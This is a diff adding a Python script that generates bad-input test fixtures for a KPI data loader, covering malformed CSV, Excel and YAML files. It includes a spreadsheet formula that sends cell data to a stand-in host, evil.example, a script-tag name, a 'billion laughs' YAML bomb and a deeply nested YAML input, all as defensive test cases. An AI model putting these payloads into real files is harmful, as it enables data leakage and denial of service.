@@ -1,0 +1,693 @@
+"""Build the bad-input catalogue ``tests/bad_inputs/cases/`` from the minimal valid fixture.
+
+Every case starts from ``tests/data/io/minimal/`` (only the tables a case needs: the required
+tables plus ``projects``, which the KPIs refer to) and changes one thing. The expected
+problems of each case are written by hand in ``tests/bad_inputs/cases.yaml``; this script
+only makes the inputs, deterministically (fixed workbook dates, sorted zip entries), so
+``tests/test_bad_inputs.py`` can check that the committed files are what it produces.
+
+Run from the repository root::
+
+    .venv/bin/python tests/bad_inputs/make_cases.py          # rewrite tests/bad_inputs/cases/
+    .venv/bin/python tests/bad_inputs/make_cases.py OUTDIR   # write OUTDIR/cases/ instead
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import shutil
+import sys
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import xlsxwriter
+import yaml
+
+HERE = Path(__file__).resolve().parent
+REPO = HERE.parent.parent
+MINIMAL = REPO / "tests" / "data" / "io" / "minimal"
+SCHEME_2019 = REPO / "params" / "scheme-2019.yaml"
+#: Tables every data case carries (the required ones, plus projects: kpis.project_id refers to it).
+BASE = ("institutions", "departments", "projects", "kpis", "kpi_results")
+#: Workbook creation date (also the zip entries' timestamps, so the bytes are reproducible).
+CREATED = dt.datetime(2019, 2, 1, 9, 0, 0)
+#: A department name that is a spreadsheet formula (formula-injection case).
+INJECTION_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"클릭")'
+#: A department name that is HTML/JavaScript (escaping case).
+SCRIPT_NAME = "<script>alert(1)</script>"
+
+Tables = dict[str, list[list[str]]]
+
+
+# --------------------------------------------------------------------------- table helpers
+
+
+def minimal(name: str) -> list[list[str]]:
+    """One minimal table as rows of text (header first)."""
+    with (MINIMAL / f"{name}.csv").open(encoding="utf-8", newline="") as fh:
+        return [list(r) for r in csv.reader(fh)]
+
+
+def base(*extra: str) -> Tables:
+    """The :data:`BASE` tables plus ``extra`` ones, as text rows."""
+    return {name: minimal(name) for name in (*BASE, *extra)}
+
+
+def col(rows: list[list[str]], column: str) -> int:
+    return rows[0].index(column)
+
+
+def set_cell(rows: list[list], row: int, column: str, value) -> None:
+    """Set the cell at spreadsheet ``row`` (1 = header, 2 = first data row) of ``column``."""
+    rows[row - 1][col(rows, column)] = value
+
+
+def rename(rows: list[list[str]], old: str, new: str) -> None:
+    rows[0][col(rows, old)] = new
+
+
+def drop(rows: list[list[str]], column: str) -> None:
+    j = col(rows, column)
+    for r in rows:
+        del r[j]
+
+
+def add_column(rows: list[list[str]], header: str, values: list[str]) -> None:
+    rows[0].append(header)
+    for r, v in zip(rows[1:], values, strict=True):
+        r.append(v)
+
+
+def csv_text(rows: list[list], delimiter: str = ",") -> str:
+    buf = io.StringIO()
+    csv.writer(buf, delimiter=delimiter, lineterminator="\n").writerows(rows)
+    return buf.getvalue()
+
+
+def write_folder(dest: Path, tables: Tables, encoding: str = "utf-8", names: dict[str, str] | None = None) -> None:
+    """One CSV per table (``names`` renames files: ``{table: file name}``)."""
+    dest.mkdir(parents=True)
+    for table, rows in tables.items():
+        name = (names or {}).get(table, f"{table}.csv")
+        (dest / name).write_bytes(csv_text(rows).encode(encoding))
+
+
+# --------------------------------------------------------------------------- workbook helpers
+
+
+@dataclass(frozen=True)
+class Formula:
+    """A formula cell; ``cached`` is the value Excel stored (None: no cached value)."""
+
+    text: str
+    cached: float | None
+
+
+@dataclass(frozen=True)
+class Date:
+    """A date cell (an Excel serial date with a date format)."""
+
+    value: dt.date
+
+
+@dataclass(frozen=True)
+class Percent:
+    """A number shown with the ``0.0%`` format (stored as a fraction)."""
+
+    value: float
+
+
+_NUMERIC = {  # columns written as numbers in typed workbooks
+    "year", "target", "actual", "weight", "band_low", "band_high", "score", "plan_status",
+    "expense_disclosure", "training_completion", "survey_score", "misconduct_count", "acrc_score",
+}
+_BOOLEAN = {"consulting_participated", "is_core", "verified"}
+
+
+def _typed(header: str, v):
+    if not isinstance(v, str):
+        return v
+    if v == "":
+        return None
+    if header in _NUMERIC:
+        try:
+            f = float(v)
+        except ValueError:
+            return v
+        return int(f) if f.is_integer() else f
+    if header in _BOOLEAN and v.upper() in ("TRUE", "FALSE"):
+        return v.upper() == "TRUE"
+    return v
+
+
+def workbook_bytes(sheets: dict[str, list[list]], typed: bool = True,
+                   merges: dict[str, list[tuple[int, int, int, int, str]]] | None = None) -> bytes:
+    """An .xlsx workbook with one sheet per entry (rows of cells), reproducible byte for byte.
+
+    ``typed`` writes numeric/boolean columns (by English header) as numbers/booleans.
+    ``merges`` = ``{sheet: [(first_row, first_col, last_row, last_col, text)]}`` (0-based).
+    """
+    buf = io.BytesIO()
+    wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_numbers": False,
+                                   "strings_to_formulas": False, "strings_to_urls": False})
+    wb.set_properties({"created": CREATED, "author": "bsc-workbench tests"})
+    date_fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
+    pct_fmt = wb.add_format({"num_format": "0.0%"})
+    merge_fmt = wb.add_format({"align": "center", "valign": "vcenter", "bold": True})
+    for name, rows in sheets.items():
+        ws = wb.add_worksheet(name)
+        headers = rows[0] if rows else []
+        for i, row in enumerate(rows):
+            for j, v in enumerate(row):
+                h = headers[j] if j < len(headers) and i > 0 else ""
+                v = _typed(h, v) if typed and i > 0 else v
+                if v is None or v == "":
+                    continue
+                if isinstance(v, Formula):
+                    ws.write_formula(i, j, v.text, None, v.cached if v.cached is not None else 0)
+                elif isinstance(v, Date):
+                    ws.write_datetime(i, j, dt.datetime.combine(v.value, dt.time()), date_fmt)
+                elif isinstance(v, Percent):
+                    ws.write_number(i, j, v.value, pct_fmt)
+                elif isinstance(v, bool):
+                    ws.write_boolean(i, j, v)
+                elif isinstance(v, int | float):
+                    ws.write_number(i, j, v)
+                else:
+                    ws.write_string(i, j, str(v))
+        for r0, c0, r1, c1, text in (merges or {}).get(name, []):
+            ws.merge_range(r0, c0, r1, c1, text, merge_fmt)
+    wb.close()
+    data = buf.getvalue()
+    uncached = [(name, i, j) for name, rows in sheets.items() for i, row in enumerate(rows)
+                for j, v in enumerate(row) if isinstance(v, Formula) and v.cached is None]
+    if uncached:
+        data = _drop_cached_values(data, sheets, uncached)
+    return data
+
+
+def _drop_cached_values(data: bytes, sheets: dict[str, list[list]], cells: list[tuple[str, int, int]]) -> bytes:
+    """Remove the ``<v>`` of the given formula cells (as a workbook saved without calculating)."""
+    from openpyxl.utils import get_column_letter
+
+    order = list(sheets)
+    zin = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            body = zin.read(info.filename)
+            for name, i, j in cells:
+                if info.filename == f"xl/worksheets/sheet{order.index(name) + 1}.xml":
+                    ref = f'r="{get_column_letter(j + 1)}{i + 1}"'.encode()
+                    start = body.index(ref)
+                    end = body.index(b"</c>", start)
+                    cell = body[start:end]
+                    v0 = cell.index(b"<v>")
+                    v1 = cell.index(b"</v>") + len(b"</v>")
+                    body = body[:start] + cell[:v0] + cell[v1:] + body[end:]
+            zi = zipfile.ZipInfo(info.filename, date_time=info.date_time)
+            zi.compress_type = zipfile.ZIP_DEFLATED
+            zi.external_attr = info.external_attr
+            zout.writestr(zi, body)
+    return out.getvalue()
+
+
+# --------------------------------------------------------------------------- the cases
+
+CASES: dict[str, Callable[[Path], None]] = {}
+
+
+def case(fn: Callable[[Path], None]) -> Callable[[Path], None]:
+    """Register a case builder; the case id is the function name."""
+    CASES[fn.__name__] = fn
+    return fn
+
+
+def folder_case(edit: Callable[[Tables], None], *extra: str, encoding: str = "utf-8",
+                names: dict[str, str] | None = None) -> Callable[[Path], None]:
+    def build(dest: Path) -> None:
+        t = base(*extra)
+        edit(t)
+        write_folder(dest, t, encoding=encoding, names=names)
+    return build
+
+
+def _reg(name: str, builder: Callable[[Path], None]) -> None:
+    CASES[name] = builder
+
+
+# ---- columns, headers, tables (CSV folder)
+
+_reg("missing_column", folder_case(lambda t: drop(t["kpis"], "weight")))
+_reg("extra_column", folder_case(lambda t: add_column(t["kpis"], "비고", ["", "확인 필요", "", "", ""])))
+_reg("misspelled_column", folder_case(lambda t: rename(t["kpis"], "polarity", "polarty")))
+_reg("duplicate_column", folder_case(lambda t: add_column(t["kpis"], "지표ID", ["K01", "K02", "K03", "K04", "K05"])))
+
+
+def _mixed_headers(t: Tables) -> None:
+    for old, new in (("kpi_id", "지표ID"), ("level", "수준"), ("name_ko", "지표명"), ("polarity", "극성"),
+                     ("band_high", "구간 상한"), ("weight", "가중치(%)")):
+        rename(t["kpis"], old, new)
+    rename(t["kpi_results"], "target", "목표치")
+    rename(t["kpi_results"], "verified", "Verified")
+
+
+_reg("mixed_korean_english_headers_valid", folder_case(_mixed_headers))
+
+
+def _missing_table(dest: Path) -> None:
+    t = base()
+    del t["kpi_results"]
+    write_folder(dest, t)
+
+
+_reg("missing_table", _missing_table)
+_reg("misspelled_table", folder_case(lambda t: None, names={"departments": "departmens.csv"}))
+
+
+def _duplicate_table(dest: Path) -> None:
+    write_folder(dest, base())
+    (dest / "성과지표.csv").write_text(csv_text(minimal("kpis")), encoding="utf-8")
+
+
+_reg("duplicate_table", _duplicate_table)
+
+
+def _empty_csv(dest: Path) -> None:
+    write_folder(dest, base())
+    (dest / "kpis.csv").write_bytes(b"")
+
+
+_reg("empty_csv_file", _empty_csv)
+
+
+def _blank_lines(dest: Path) -> None:
+    write_folder(dest, base())
+    (dest / "institutions.csv").write_text("\n  \n\t\n", encoding="utf-8")
+
+
+_reg("blank_lines_only", _blank_lines)
+_reg("header_only_table", folder_case(lambda t: t.__setitem__("kpi_results", t["kpi_results"][:1])))
+
+
+def _ragged(t: Tables) -> None:
+    t["departments"][2].append("추가 값")
+
+
+_reg("ragged_row", folder_case(_ragged))
+
+
+def _unclosed_quote(dest: Path) -> None:
+    write_folder(dest, base())
+    p = dest / "kpis.csv"
+    p.write_text(p.read_text(encoding="utf-8").replace("처리 기간", '"처리 기간'), encoding="utf-8")
+
+
+_reg("unclosed_quote", _unclosed_quote)
+
+
+def _utf16_no_bom(dest: Path) -> None:
+    write_folder(dest, base())
+    p = dest / "departments.csv"
+    p.write_bytes(p.read_text(encoding="utf-8").encode("utf-16-le"))
+
+
+_reg("utf16_without_bom", _utf16_no_bom)
+
+
+def _binary_csv(dest: Path) -> None:
+    write_folder(dest, base())
+    (dest / "kpi_results.csv").write_bytes(bytes(range(256)) * 4)
+
+
+_reg("binary_file_named_csv", _binary_csv)
+
+
+# ---- cells
+
+_reg("not_a_number", folder_case(lambda t: set_cell(t["kpis"], 2, "weight", "sixty")))
+_reg("bad_thousands_separator", folder_case(lambda t: set_cell(t["kpi_results"], 2, "target", "1,23")))
+_reg("year_not_whole", folder_case(lambda t: set_cell(t["kpi_results"], 3, "year", "2019.5")))
+_reg("not_a_boolean", folder_case(lambda t: set_cell(t["departments"], 3, "consulting_participated", "maybe")))
+
+
+def _number_formats(t: Tables) -> None:
+    r = t["kpi_results"]
+    set_cell(r, 2, "target", "1,234")         # thousands separator
+    set_cell(r, 2, "actual", "1,200.5")
+    set_cell(r, 3, "actual", "12.5%")         # percent sign, kept in percent units
+    set_cell(r, 4, "actual", "-")             # dash = missing
+    set_cell(r, 5, "actual", "N/A")           # missing
+    set_cell(r, 6, "target", "\uff17\uff15")  # full-width ７５
+    set_cell(r, 7, "target", "\u22125")       # Unicode minus −5
+    set_cell(r, 8, "actual", " 99.7 ")        # spaces
+    set_cell(r, 9, "year", "２０１９")         # full-width year
+    set_cell(r, 10, "target", "1e2")          # exponent
+
+
+_reg("number_formats_valid", folder_case(_number_formats))
+
+
+def _inf(t: Tables) -> None:
+    set_cell(t["kpi_results"], 2, "actual", "inf")
+    set_cell(t["kpi_results"], 3, "actual", "1e400")
+
+
+_reg("infinite_numbers", folder_case(_inf))
+_reg("missing_required_value", folder_case(lambda t: set_cell(t["kpis"], 3, "name_ko", "  ")))
+_reg("unknown_polarity", folder_case(lambda t: set_cell(t["kpis"], 2, "polarity", "sideways")))
+
+
+def _korean_codes(t: Tables) -> None:
+    k = t["kpis"]
+    for row, pol in ((2, "상향"), (3, "하향형"), (4, "목표 구간")):
+        set_cell(k, row, "polarity", pol)
+    set_cell(k, 2, "level", "부서")
+    set_cell(k, 2, "kpi_type", "결과")
+    set_cell(t["kpi_results"], 2, "half", "상반기")
+    set_cell(t["kpi_results"], 3, "half", "하반기")
+    set_cell(t["kpi_results"], 2, "verified", "예")
+    set_cell(t["kpi_results"], 5, "verified", "아니오")
+    set_cell(t["institutions"], 3, "inst_type", "사업소")
+
+
+_reg("korean_codes_valid", folder_case(_korean_codes))
+_reg("year_out_of_range", folder_case(lambda t: set_cell(t["kpi_results"], 4, "year", "20190")))
+_reg("very_long_name", folder_case(lambda t: set_cell(t["departments"], 3, "name_ko", "가" * 100_000)))
+_reg("long_name_at_limit_valid", folder_case(lambda t: set_cell(t["departments"], 3, "name_ko", "나" * 1000)))
+
+
+# ---- keys and cross-table rules
+
+
+def _dup_id(t: Tables) -> None:
+    t["departments"].append(list(t["departments"][1]))
+
+
+_reg("duplicate_id", folder_case(_dup_id))
+
+
+def _dup_result(t: Tables) -> None:
+    row = list(t["kpi_results"][1])
+    t["kpi_results"].append(row)
+
+
+_reg("duplicate_result_key", folder_case(_dup_result))
+
+
+def _dangling(t: Tables) -> None:
+    set_cell(t["kpis"], 2, "owner_id", "D999")
+    set_cell(t["kpis"], 3, "owner_id", "D999")
+
+
+_reg("dangling_foreign_key", folder_case(_dangling))
+_reg("weights_not_100", folder_case(lambda t: set_cell(t["kpis"], 2, "weight", "50")))
+
+
+def _zero_neg(t: Tables) -> None:
+    set_cell(t["kpi_results"], 2, "target", "0")
+    set_cell(t["kpi_results"], 4, "target", "-5")
+    set_cell(t["kpi_results"], 4, "actual", "-7.5")
+
+
+_reg("zero_and_negative_targets_valid", folder_case(_zero_neg))
+
+
+def _band_no_limits(t: Tables) -> None:
+    set_cell(t["kpis"], 4, "band_low", "")
+    set_cell(t["kpis"], 4, "band_high", "")
+
+
+_reg("band_without_limits", folder_case(_band_no_limits))
+
+
+def _band_inverted(t: Tables) -> None:
+    set_cell(t["kpis"], 4, "band_low", "60")
+    set_cell(t["kpis"], 4, "band_high", "40")
+
+
+_reg("band_limits_inverted", folder_case(_band_inverted))
+_reg("kpi_level_mismatch", folder_case(lambda t: set_cell(t["kpis"], 5, "level", "institution")))
+_reg("rating_out_of_scale", folder_case(lambda t: set_cell(t["qualitative_ratings"], 3, "score", "120"),
+                                        "qualitative_ratings"))
+_reg("unknown_rating_item", folder_case(lambda t: set_cell(t["pre_eval_ratings"], 2, "item", "charisma"),
+                                        "pre_eval_ratings"))
+_reg("cooperation_above_points", folder_case(lambda t: set_cell(t["cooperation_scores"], 2, "score", "4"),
+                                             "cooperation_scores"))
+_reg("cooperation_negative", folder_case(lambda t: set_cell(t["cooperation_scores"], 3, "score", "-1"),
+                                         "cooperation_scores"))
+
+
+def _perspective(t: Tables) -> None:
+    set_cell(t["strategic_goals"], 2, "perspective", "고객")
+    set_cell(t["strategic_goals"], 2, "city_goal_id", "")
+
+
+_reg("unknown_perspective", folder_case(_perspective, "strategic_goals"))
+_reg("integrity_above_100", folder_case(lambda t: set_cell(t["integrity"], 3, "plan_status", "120"), "integrity"))
+
+
+# ---- encodings (valid: must load)
+
+_reg("encoding_cp949_valid", folder_case(lambda t: None, encoding="cp949"))
+_reg("encoding_euc_kr_valid", folder_case(lambda t: None, encoding="euc_kr"))
+_reg("encoding_utf8_bom_valid", folder_case(lambda t: None, encoding="utf-8-sig"))
+_reg("encoding_utf16_valid", folder_case(lambda t: None, encoding="utf-16"))
+
+
+# ---- plan form: a two-row header with a merged "실 적 치" over the years
+
+PLAN_YEARS = ("2015", "2016", "2017", "2018")
+#: kpi_history in the plan form: 지표ID merged over both header rows, 실 적 치 over the years.
+PLAN_HISTORY = [
+    ["지표ID", "실 적 치", "", "", ""],
+    ["", *PLAN_YEARS],
+    ["K01", "", "", "80", "85.5"],
+    ["K02", "15", "14", "12.5", "11"],
+    ["K04", "98", "", "", ""],
+]
+PLAN_MERGES = [(0, 0, 1, 0, "지표ID"), (0, 1, 0, 4, "실 적 치")]
+
+
+def _plan_rows(typed: bool) -> list[list]:
+    rows = [list(r) for r in PLAN_HISTORY]
+    if typed:
+        rows[1] = ["", *(int(y) for y in PLAN_YEARS)]
+        rows[2:] = [[r[0], *(float(v) if v else "" for v in r[1:])] for r in rows[2:]]
+    return rows
+
+
+def _base_sheets(*extra: str) -> dict[str, list[list]]:
+    return {name: rows for name, rows in base(*extra).items()}
+
+
+@case
+def plan_form_two_row_header_valid(dest: Path) -> None:
+    sheets = _base_sheets()
+    sheets["지표실적이력"] = _plan_rows(typed=True)
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"지표실적이력": PLAN_MERGES}))
+
+
+@case
+def plan_form_two_row_header_csv_valid(dest: Path) -> None:
+    t = base()
+    t["kpi_history"] = [list(r) for r in PLAN_HISTORY]
+    write_folder(dest, t)
+
+
+@case
+def plan_form_bad_cell(dest: Path) -> None:
+    sheets = _base_sheets()
+    rows = _plan_rows(typed=True)
+    rows[3][3] = "12,5"  # K02, 2017: a decimal comma
+    sheets["지표실적이력"] = rows
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"지표실적이력": PLAN_MERGES}))
+
+
+@case
+def plan_form_years_in_kpis_sheet(dest: Path) -> None:
+    sheets = _base_sheets()
+    k = [list(r) for r in sheets["kpis"]]
+    top = [*k[0], "실 적 치", "", "", ""]
+    sub = [""] * len(k[0]) + list(PLAN_YEARS)
+    body = [[*r, "", "", "", ""] for r in k[1:]]
+    sheets["kpis"] = [top, sub, *body]
+    n = len(k[0])
+    merges = [(0, j, 1, j, k[0][j]) for j in range(n)] + [(0, n, 0, n + 3, "실 적 치")]
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"kpis": merges}))
+
+
+# ---- workbooks
+
+
+@case
+def xlsx_valid(dest: Path) -> None:
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(_base_sheets()))
+
+
+@case
+def xlsx_missing_sheet(dest: Path) -> None:
+    sheets = _base_sheets()
+    del sheets["kpis"]
+    sheets["README"] = [["이 통합문서는 시험용입니다 (test workbook)."]]
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))
+
+
+@case
+def xlsx_misspelled_sheet(dest: Path) -> None:
+    sheets = _base_sheets()
+    sheets = {("kpi" if k == "kpis" else k): v for k, v in sheets.items()}
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))
+
+
+@case
+def xlsx_empty_sheet(dest: Path) -> None:
+    sheets = _base_sheets()
+    sheets["kpis"] = []
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))
+
+
+@case
+def xlsx_date_in_number_column(dest: Path) -> None:
+    sheets = _base_sheets()
+    set_cell(sheets["kpi_results"], 3, "target", Date(dt.date(2019, 9, 30)))
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))
+
+
+@case
+def xlsx_formula_cached_valid(dest: Path) -> None:
+    sheets = _base_sheets()
+    set_cell(sheets["kpis"], 2, "weight", Formula("=100-40", 60))
+    set_cell(sheets["kpi_results"], 2, "target", Formula("=45*2", 90))
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))
+
+
+@case
+def xlsx_formula_without_cached_value(dest: Path) -> None:
+    sheets = _base_sheets()
+    set_cell(sheets["kpi_results"], 2, "actual", Formula("=SUM(H2:H3)", None))
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))
+
+
+@case
+def xlsx_percent_format_valid(dest: Path) -> None:
+    sheets = _base_sheets()
+    set_cell(sheets["kpi_results"], 2, "actual", Percent(0.125))
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))
+
+
+@case
+def xlsx_header_below_title_valid(dest: Path) -> None:
+    sheets = _base_sheets()
+    k = sheets["kpis"]
+    sheets["kpis"] = [["2019년 성과지표 (제출용)"], [], k[0], [], *k[1:3], [], *k[3:]]
+    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))
+
+
+@case
+def xlsx_empty_file(dest: Path) -> None:
+    dest.with_suffix(".xlsx").write_bytes(b"")
+
+
+@case
+def xlsx_text_file(dest: Path) -> None:
+    dest.with_suffix(".xlsx").write_text(csv_text(minimal("kpis")), encoding="utf-8")
+
+
+@case
+def xlsx_password_protected(dest: Path) -> None:
+    # Excel saves an encrypted workbook as an OLE2 compound file (EncryptionInfo and
+    # EncryptedPackage streams) whatever the extension: the reader only needs its signature.
+    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
+    dest.with_suffix(".xlsx").write_bytes(header + bytes(512 - len(header)) + "EncryptedPackage".encode("utf-16-le"))
+
+
+@case
+def xlsx_truncated(dest: Path) -> None:
+    data = workbook_bytes(_base_sheets())
+    dest.with_suffix(".xlsx").write_bytes(data[: len(data) // 2])
+
+
+@case
+def xlsx_zip_not_workbook(dest: Path) -> None:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr(zipfile.ZipInfo("readme.txt", date_time=CREATED.timetuple()[:6]), "not a workbook")
+    dest.with_suffix(".xlsx").write_bytes(buf.getvalue())
+
+
+@case
+def old_xls_file(dest: Path) -> None:
+    dest.with_suffix(".xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
+
+
+# ---- names that must be neutralised / escaped downstream (valid: must load)
+
+_reg("formula_injection_name_valid", folder_case(lambda t: set_cell(t["departments"], 3, "name_ko", INJECTION_NAME)))
+_reg("script_name_valid", folder_case(lambda t: set_cell(t["departments"], 2, "name_ko", SCRIPT_NAME)))
+
+
+# ---- scheme files
+
+
+def _scheme_text() -> str:
+    return SCHEME_2019.read_text(encoding="utf-8")
+
+
+def _scheme_dump(mutate: Callable[[dict], None]) -> str:
+    d = yaml.safe_load(_scheme_text())
+    mutate(d)
+    return yaml.safe_dump(d, allow_unicode=True, sort_keys=False)
+
+
+def scheme_case(text: Callable[[], str | bytes]) -> Callable[[Path], None]:
+    def build(dest: Path) -> None:
+        t = text()
+        dest.with_suffix(".yaml").write_bytes(t.encode("utf-8") if isinstance(t, str) else t)
+    return build
+
+
+_reg("scheme_typo", scheme_case(lambda: _scheme_text().replace("    formula: ratio", "    formla: ratio")))
+
+
+def _points_105(d: dict) -> None:
+    d["evaluations"]["institutional"]["components"]["evaluator"] = 15
+
+
+_reg("scheme_points_not_100", scheme_case(lambda: _scheme_dump(_points_105)))
+_reg("scheme_wrong_type", scheme_case(lambda: _scheme_text().replace("    cap: 1.0 ", "    cap: high ")))
+
+BILLION_LAUGHS = "\n".join(
+    ['lol0: &lol0 "lol"']
+    + [f"lol{i}: &lol{i} [{', '.join([f'*lol{i - 1}'] * 10)}]" for i in range(1, 10)]
+    + ["scheme_id: *lol9"]
+) + "\n"
+_reg("scheme_billion_laughs", scheme_case(lambda: BILLION_LAUGHS))
+_reg("scheme_deep_nesting", scheme_case(lambda: "scheme_id: " + "[" * 5000 + "]" * 5000 + "\n"))
+_reg("scheme_not_yaml", scheme_case(lambda: _scheme_text().replace("year: 2019\n", "year: [2019\n", 1)))
+_reg("scheme_not_a_mapping", scheme_case(lambda: "- seoul-bsc-2019\n- 2019\n"))
+_reg("scheme_empty", scheme_case(lambda: ""))
+_reg("scheme_cp949", scheme_case(lambda: _scheme_text().encode("cp949", errors="replace")))
+
+
+# --------------------------------------------------------------------------- build
+
+
+def build(root: Path = HERE) -> Path:
+    """(Re)write ``root/cases/`` with every case of :data:`CASES`; returns the folder."""
+    out = root / "cases"
+    if out.exists():
+        shutil.rmtree(out)
+    out.mkdir(parents=True)
+    for name, builder in CASES.items():
+        builder(out / name)
+    return out
+
+
+if __name__ == "__main__":
+    target = build(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
+    print(f"{len(CASES)} cases written to {target}")  # noqa: T201 - a script, not the library
